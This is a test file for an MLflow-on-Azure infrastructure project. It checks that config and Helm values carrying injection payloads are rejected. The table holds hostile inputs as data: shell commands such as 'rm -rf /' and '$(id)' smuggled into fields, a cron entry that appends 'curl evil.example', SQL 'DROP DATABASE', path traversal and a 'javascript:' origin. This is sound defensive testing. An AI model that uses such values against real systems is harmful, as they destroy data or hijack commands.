// Bad and hostile input never reaches Azure or the cluster. One table across the two ways in: environment config
// (MLFLOW_CONFIG_OVERRIDES and the other variables, through the real main.ts in a copy of the project) and chart
// values (through the real `helm template`). Each case must fail with its specific message, naming the field and
// the rule, and leave nothing behind: no cdktf.out, no manifest on stdout.
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { ensureDependencies, helmTemplate } from "../chart/helm";
import { copyProject, runSynth } from "../support/project";

type BadInput = { what: string; config: NodeJS.ProcessEnv; message: string } | { what: string; values: Record<string, unknown>; message: string };

const overrides = (o: unknown): NodeJS.ProcessEnv => ({ MLFLOW_CONFIG_OVERRIDES: JSON.stringify(o) });
const tooLong = (n: number) => "x".repeat(n);

const table: BadInput[] = [
  // Environment config: each message is "[env] field: rule".
  {
    what: "a quote in the naming prefix",
    config: overrides({ dev: { namingPrefix: 'ml"flow' } }),
    message: "[dev] namingPrefix: a lowercase letter, then lowercase letters or digits",
  },
  {
    what: "unicode in the naming prefix",
    config: overrides({ dev: { namingPrefix: "mlflöw" } }),
    message: "[dev] namingPrefix: a lowercase letter, then lowercase letters or digits",
  },
  {
    what: "a newline in a tag value",
    config: overrides({ dev: { tags: { owner: "team-a\nowner: root" } } }),
    message: "[dev] tags.owner: tag values may not contain",
  },
  {
    what: "Helm template syntax in a tag value",
    config: overrides({ dev: { tags: { team: "{{ .Values.registry.password }}" } } }),
    message: "[dev] tags.team: tag values may not contain",
  },
  {
    what: "Terraform interpolation in a tag value",
    config: overrides({ staging: { tags: { cost: "${azurerm_storage_account.x.primary_access_key}" } } }),
    message: "[staging] tags.cost: tag values may not contain",
  },
  {
    what: "a very long tag value",
    config: overrides({ dev: { tags: { note: tooLong(300) } } }),
    message: "[dev] tags.note: Too big: expected string to have <=256 characters",
  },
  {
    what: "Terraform interpolation as the namespace",
    config: overrides({ dev: { mlflow: { namespace: "${path.root}" } } }),
    message: "[dev] mlflow.namespace: must be a DNS-1123 label",
  },
  {
    what: "a very long release name",
    config: overrides({ prod: { mlflow: { releaseName: tooLong(60) } } }),
    message: "[prod] mlflow.releaseName: must be a DNS-1123 label of at most",
  },
  {
    what: "a release name Helm takes but the chart refuses",
    config: overrides({ prod: { mlflow: { releaseName: tooLong(41) } } }),
    message: "[prod] mlflow.releaseName: must be a DNS-1123 label of at most 40 characters (the chart's fullnameOverride limit)",
  },
  {
    what: "a newline in the image tag",
    config: overrides({ dev: { mlflow: { image: { tag: "3.6.0\nlatest" } } } }),
    message: "[dev] mlflow.image.tag: must be an image tag",
  },
  {
    what: "template syntax as the image repository",
    config: overrides({ dev: { mlflow: { image: { repository: "{{ evil }}" } } } }),
    message: "[dev] mlflow.image.repository: must be a repository path",
  },
  {
    what: "a quote and SQL in the share name",
    config: overrides({ dev: { storage: { fileShareName: "projects'; drop" } } }),
    message: "[dev] storage.fileShareName: share names: 3-63 lowercase letters",
  },
  {
    what: "interpolation in the unique suffix",
    config: overrides({ dev: { uniqueSuffix: "x7${}" } }),
    message: "[dev] uniqueSuffix: 0-8 lowercase letters or digits",
  },
  {
    what: "a newline in a subnet range",
    config: overrides({ dev: { network: { runnersSubnet: "10.20.5.0/24\n" } } }),
    message: "[dev] network.runnersSubnet: must be an IPv4 CIDR",
  },
  {
    what: "a cluster admin that is not an object id",
    config: overrides({ dev: { kubernetes: { clusterAdminObjectIds: ["admin@example.com"] } } }),
    message: "[dev] kubernetes.clusterAdminObjectIds.0: must be an Entra ID object id (uuid)",
  },
  {
    what: "prod without data protection",
    config: overrides({ prod: { dataProtection: false } }),
    message: "[prod] dataProtection: production policy: must be true",
  },
  {
    what: "a region typo",
    config: overrides({ dev: { location: "westeuropee" } }),
    message: '[dev] location: "westeuropee" is not an Azure region; did you mean "westeurope"?',
  },
  {
    what: "a Kubernetes version AKS does not run",
    config: overrides({ dev: { kubernetes: { version: "1.19" } } }),
    message: "[dev] kubernetes.version: 1.19 is not a Kubernetes minor AKS supports",
  },
  {
    what: "a VM size that is no VM size",
    config: overrides({ dev: { kubernetes: { userPool: { vmSize: "Standard_XL" } } } }),
    message: '[dev] kubernetes.userPool.vmSize: "Standard_XL" is not an Azure VM size',
  },
  {
    what: "the kube-system namespace",
    config: overrides({ dev: { mlflow: { namespace: "kube-system" } } }),
    message: '[dev] mlflow.namespace: "kube-system" is a system namespace',
  },
  {
    what: "an address space with host bits set",
    config: overrides({ dev: { network: { addressSpace: "10.20.0.1/16" } } }),
    message: "[dev] network.addressSpace: 10.20.0.1/16 has host bits set after /16: write the network address 10.20.0.0/16",
  },
  {
    what: "two environments on one address space",
    config: overrides({
      prod: { network: { addressSpace: "10.21.0.0/16", nodesSubnet: "10.21.0.0/22", endpointsSubnet: "10.21.4.0/24", runnersSubnet: "10.21.5.0/24" } },
    }),
    message: "[prod] network.addressSpace: 10.21.0.0/16 is the same address space as environment staging's 10.21.0.0/16",
  },
  {
    what: "a pod range too small for the nodes",
    config: overrides({ prod: { kubernetes: { network: { podCidr: "10.244.0.0/23" } } } }),
    message: "[prod] kubernetes.network.podCidr: 10.244.0.0/23 holds 2 node block(s) of /24, but the pools reach 12 nodes",
  },
  {
    what: "a share quota above the account's limit",
    config: overrides({ prod: { storage: { fileShareQuotaGb: 102400 } } }),
    message: "[prod] storage.fileShareQuotaGb: 102400 GiB is more than a share of the project's Standard storage account holds",
  },
  {
    what: "51 tags",
    config: overrides({ staging: { tags: Object.fromEntries(Array.from({ length: 48 }, (_, i) => [`k${i}`, "v"])) } }),
    message: "[staging] tags: 51 tags: Azure allows at most 50 per resource",
  },
  {
    what: "tag names that differ only in case",
    config: overrides({ dev: { tags: { Environment: "dev" } } }),
    message: '[dev] tags.Environment: repeats tag "environment"',
  },
  {
    what: "a tag name Azure reserves",
    config: overrides({ dev: { tags: { "azure-owner": "x" } } }),
    message: '[dev] tags.azure-owner: tag names may not start with "azure"',
  },
  {
    what: "a zero CPU limit",
    config: overrides({ dev: { mlflow: { mysql: { resources: { cpuRequest: "0", cpuLimit: "0" } } } } }),
    message: "[dev] mlflow.mysql.resources.cpuLimit: must be more than zero (got 0)",
  },
  {
    what: "a zero memory limit",
    config: overrides({ dev: { mlflow: { trackingServer: { resources: { memoryRequest: "0Gi", memoryLimit: "0Gi" } } } } }),
    message: "[dev] mlflow.trackingServer.resources.memoryLimit: must be more than zero (got 0Gi)",
  },
  {
    what: "an admin listed twice (a construct-id clash without this rule)",
    config: overrides({ dev: { kubernetes: { clusterAdminObjectIds: ["9b2e4c1a-6d3f-4e8b-a1c2-3d4e5f607182", "9b2e4c1a-6d3f-4e8b-a1c2-3d4e5f607182"] } } }),
    message: "[dev] kubernetes.clusterAdminObjectIds.1: repeats entry 0",
  },
  {
    what: "an override that renames an environment",
    config: overrides({ staging: { name: "prod" } }),
    message: '[staging] name: an override cannot rename an environment (got "prod")',
  },
  {
    what: "an Arm64 node size for amd64 images",
    config: overrides({ dev: { kubernetes: { userPool: { vmSize: "Standard_D8pds_v5" } } } }),
    message: "[dev] kubernetes.userPool.vmSize: Standard_D8pds_v5 is an Arm64 size",
  },
  {
    what: "an ephemeral OS disk on a size without a local disk",
    config: overrides({ staging: { kubernetes: { systemPool: { vmSize: "Standard_D2s_v5" } } } }),
    message: "[staging] kubernetes.systemPool.osDiskType: Ephemeral needs a VM size with a local disk",
  },
  {
    what: "zones in a region without zones",
    config: overrides({ prod: { location: "westus" } }),
    message: "[prod] kubernetes.systemPool.zones/userPool.zones: westus has no availability zones",
  },
  {
    what: "a public range as the address space",
    config: overrides({
      dev: { network: { addressSpace: "8.8.0.0/16", nodesSubnet: "8.8.0.0/22", endpointsSubnet: "8.8.4.0/24", runnersSubnet: "8.8.5.0/24" } },
    }),
    message: "[dev] network.addressSpace: 8.8.0.0/16 is not private address space",
  },
  {
    what: "a pod range AKS reserves",
    config: overrides({ dev: { kubernetes: { network: { podCidr: "169.254.0.0/16" } } } }),
    message: "[dev] kubernetes.network.podCidr: must not overlap 169.254.0.0/16, which AKS reserves",
  },
  {
    what: "the mutable latest image tag",
    config: overrides({ dev: { mlflow: { image: { tag: "latest" } } } }),
    message: '[dev] mlflow.image.tag: "latest" moves',
  },
  {
    what: "an image from another registry",
    config: overrides({ dev: { mlflow: { image: { repository: "ghcr.io/evil/mlflow" } } } }),
    message: '[dev] mlflow.image.repository: "ghcr.io/evil/mlflow" names a registry (ghcr.io)',
  },
  {
    what: "more tracking-server replicas than the chart allows",
    config: overrides({ prod: { mlflow: { trackingServer: { replicas: 1000 } } } }),
    message: "[prod] mlflow.trackingServer.replicas: the chart allows at most",
  },
  {
    what: "a CPU request no node can hold",
    config: overrides({ dev: { mlflow: { mysql: { resources: { cpuRequest: "64", cpuLimit: "64" } } } } }),
    message: "[dev] mlflow.mysql.resources.cpuRequest: 64 does not fit on a user pool node of 4 vCPUs",
  },
  {
    what: "an override that lifts prod's production policy",
    config: overrides({ prod: { production: false, dataProtection: false } }),
    message: "[prod] production: an override cannot lift the production policy",
  },
  {
    what: "a shell command in the state container",
    config: { TF_STATE_RESOURCE_GROUP: "rg-tfstate", TF_STATE_STORAGE_ACCOUNT: "sttfstate", TF_STATE_CONTAINER: "tfstate; rm -rf /" },
    message: "[*] TF_STATE_CONTAINER: must be 3-63 lowercase letters, digits and single hyphens",
  },
  {
    what: "command substitution in the state resource group",
    config: { TF_STATE_RESOURCE_GROUP: "rg-$(id)", TF_STATE_STORAGE_ACCOUNT: "sttfstate", TF_STATE_CONTAINER: "tfstate" },
    message: "[*] TF_STATE_RESOURCE_GROUP: must be 1-90 letters, digits, - _ . ( ), not ending in .",
  },
  {
    what: "overrides that are not JSON",
    config: { MLFLOW_CONFIG_OVERRIDES: "{dev: {tags: }" },
    message: "[*] MLFLOW_CONFIG_OVERRIDES: must be a JSON object keyed by environment name",
  },
  {
    what: "template syntax as the image digest",
    config: { MLFLOW_IMAGE_DIGEST: "sha256:{{ .Values.x }}" },
    message: "[*] MLFLOW_IMAGE_DIGEST: must be sha256: followed by 64 lowercase hex digits",
  },
  {
    what: "a shell command as the sign-in mode",
    config: { KUBELOGIN_LOGIN_MODE: "azurecli; rm -rf /" },
    message: "[*] KUBELOGIN_LOGIN_MODE: must be one of azurecli, workloadidentity, spn",
  },

  // Chart values: schema messages name the JSON path of the value and the rule it breaks.
  {
    what: "a quote in the registry server",
    values: { registry: { server: 'evil.io"' } },
    message: "at '/registry/server': 'evil.io\"' does not match pattern",
  },
  {
    what: "template syntax as the storage account",
    values: { storage: { accountName: "{{ .Release.Name }}" } },
    message: "at '/storage/accountName': '{{ .Release.Name }}' does not match pattern '^[a-z0-9]{3,24}$'",
  },
  { what: "shell interpolation as the image tag", values: { image: { tag: "${IMAGE}" } }, message: "at '/image/tag': '${IMAGE}' does not match pattern" },
  {
    what: "a header injected through an allowed host",
    values: { trackingServer: { allowedHosts: ["host\nX-Injected: 1"] } },
    message: "at '/trackingServer/allowedHosts/0'",
  },
  { what: "a very long fullnameOverride", values: { fullnameOverride: tooLong(100) }, message: "at '/fullnameOverride': maxLength: got 100, want 40" },
  { what: "unicode in nameOverride", values: { nameOverride: "mlflöw" }, message: "at '/nameOverride': 'mlflöw' does not match pattern" },
  { what: "SQL in the database name", values: { mysql: { auth: { database: "mlflow`; DROP DATABASE mlflow;`" } } }, message: "at '/mysql/auth/database'" },
  { what: "a NUL byte in the database user", values: { mysql: { auth: { username: "root\u0000" } } }, message: "at '/mysql/auth/username'" },
  {
    what: "a quote and a command in the database options",
    values: { externalDatabase: { options: "ssl_ca=x' ; rm -rf /" } },
    message: "at '/externalDatabase/options'",
  },
  { what: "a command appended to the backup schedule", values: { backup: { schedule: "* * * * * ; curl evil.example" } }, message: "at '/backup/schedule'" },
  {
    what: "a backup prefix escaping its folder",
    values: { backup: { prefix: "../../etc" } },
    message: "at '/backup/prefix': '../../etc' does not match pattern",
  },
  { what: "backups kept zero days", values: { backup: { retentionDays: 0 } }, message: "at '/backup/retentionDays': minimum: got 0, want 1" },
  {
    what: "template syntax in the MySQL digest",
    values: { mysql: { image: { digest: "sha256:{{x}}" } } },
    message: "at '/mysql/image/digest': 'sha256:{{x}}' does not match pattern",
  },
  {
    what: "an empty peer that would open the tracking server to everyone",
    values: { networkPolicy: { trackingServerIngressFrom: [{}] } },
    message: "at '/networkPolicy/trackingServerIngressFrom/0': minProperties: got 0, want 1",
  },
  {
    what: "a relative credentials directory",
    values: { trackingServer: { secretsMountPath: "relative/secrets" } },
    message: "at '/trackingServer/secretsMountPath'",
  },
  {
    what: "a script origin for CORS",
    values: { trackingServer: { corsAllowedOrigins: ["javascript:alert(1)"] } },
    message: "at '/trackingServer/corsAllowedOrigins/0'",
  },
  {
    what: "interpolation in the project mount path",
    values: { mlflowProject: { job: { projectsMountPath: "/mnt/${HOME}" } } },
    message: "at '/mlflowProject/job/projectsMountPath'",
  },
  {
    what: "a share mount that would hide the project code",
    values: { mlflowProject: { job: { projectsMountPath: "/mlflow/projects" } } },
    message: 'mlflowProject.job.projectsMountPath "/mlflow/projects" would hide the project code',
  },
  {
    what: "a pull secret name reaching into another namespace",
    values: { registry: { existingSecret: "../kube-system/admin" } },
    message: "at '/registry/existingSecret'",
  },
];

let project: string;
let scratch: string;
beforeAll(() => {
  ensureDependencies();
  project = copyProject();
  scratch = fs.mkdtempSync(path.join(os.tmpdir(), "mlflow-bad-input-"));
});
afterAll(() => {
  fs.rmSync(project, { recursive: true, force: true });
  fs.rmSync(scratch, { recursive: true, force: true });
});

test("the table covers both ways in with at least 25 cases, each once", () => {
  expect(table.length).toBeGreaterThanOrEqual(25);
  expect(table.filter((c) => "config" in c).length).toBeGreaterThanOrEqual(10);
  expect(table.filter((c) => "values" in c).length).toBeGreaterThanOrEqual(10);
  expect(new Set(table.map((c) => c.what)).size).toBe(table.length);
});

test("the same harness accepts good input, so each rejection below is the bad value's doing", () => {
  const synth = runSynth(project);
  expect(synth.stderr).toBe("");
  expect(synth.status).toBe(0);
  expect(fs.existsSync(path.join(project, "cdktf.out", "stacks", "infra-prod", "cdk.tf.json"))).toBe(true);
  const render = helmTemplate([]);
  expect(render.stderr).toBe("");
  expect(render.status).toBe(0);
});

test.each(table)("rejects $what", (input) => {
  if ("config" in input) {
    fs.rmSync(path.join(project, "cdktf.out"), { recursive: true, force: true });
    const result = runSynth(project, input.config);
    expect(result.stderr).toContain(input.message);
    expect(result.stderr).toContain("Nothing was synthesized.");
    // A config problem is reported as its lines, never as a stack trace.
    expect(result.stderr).not.toMatch(/^\s+at /m);
    expect(result.status).toBe(1);
    expect(fs.existsSync(path.join(project, "cdktf.out"))).toBe(false);
  } else {
    const file = path.join(scratch, `${table.indexOf(input)}.json`);
    fs.writeFileSync(file, JSON.stringify(input.values));
    const result = helmTemplate(["-f", file]);
    expect(result.stderr).toContain(input.message);
    expect(result.status).not.toBe(0);
    expect(result.stdout).toBe("");
  }
});
